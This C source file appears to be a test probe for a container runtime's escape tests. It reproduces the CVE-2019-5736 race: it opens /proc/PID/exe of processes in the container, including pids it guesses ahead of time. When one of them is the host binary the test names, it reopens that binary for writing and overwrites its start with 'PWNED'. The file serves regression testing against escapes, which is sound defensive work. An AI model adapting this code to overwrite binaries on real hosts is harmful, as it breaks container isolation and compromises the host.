// SPDX-License-Identifier: Apache-2.0
/* An attacker inside a unit, for tests/integration/test_escapes.py.
 *
 *   escape-probe exe-race SECONDS DEV INO [STOP]
 *
 * CVE-2019-5736: for SECONDS, or until the file STOP exists (the test
 * makes it once its execs are done), open /proc/PID/exe of every other
 * process of the unit's PID namespace as it appears (the pids just above
 * the highest seen are tried before they show in a readdir), and when one is
 * the host file DEV:INO (cell-monitor, which the test names), reopen it
 * for writing through /proc/self/fd and write "PWNED" over its start.
 * Prints "tries N opened N host N wrote N". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long tries, opened, host, wrote;

static void attack(int pid, dev_t dev, ino_t ino)
{
	char p[64];
	struct stat st;
	int fd, w;

	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
	tries++;
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	opened++;
	if (fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino) {
		host++;
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		w = open(p, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			if (pwrite(w, "PWNED", 5, 0) == 5)
				wrote++;
			close(w);
		} else if (host == 1) {
			printf("reopen for writing: %s\n", strerror(errno));
		}
	}
	close(fd);
}

static int scan(int self, int hi, dev_t dev, ino_t ino)
{
	DIR *d = opendir("/proc");
	struct dirent *de;

	if (!d)
		return hi;
	while ((de = readdir(d))) {
		int pid = atoi(de->d_name); /* lint: allow (test probe) */

		if (pid <= 0 || pid == self)
			continue;
		if (pid > hi)
			hi = pid;
		attack(pid, dev, ino);
	}
	closedir(d);
	return hi;
}

int main(int argc, char **argv)
{
	time_t end;
	dev_t dev;
	ino_t ino;
	int self = getpid(), hi = self;
	const char *stop;

	if (argc < 5 || argc > 6 || strcmp(argv[1], "exe-race")) {
		fprintf(
		    stderr,
		    "usage: escape-probe exe-race SECONDS DEV INO [STOP]\n");
		return 2;
	}
	end = time(NULL) + strtol(argv[2], NULL, 10);
	dev = (dev_t)strtoull(argv[3], NULL, 10);
	ino = (ino_t)strtoull(argv[4], NULL, 10);
	stop = argc == 6 ? argv[5] : NULL;
	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end && !(stop && access(stop, F_OK) == 0)) {
		hi = scan(self, hi, dev, ino);
		/* The next pids, before readdir would list them. */
		for (int k = 0; k < 2000; k++)
			for (int pid = hi + 1; pid <= hi + 4; pid++)
				attack(pid, dev, ino);
	}
	printf("tries %ld opened %ld host %ld wrote %ld\n", tries, opened, host,
	       wrote);
	return 0;
}
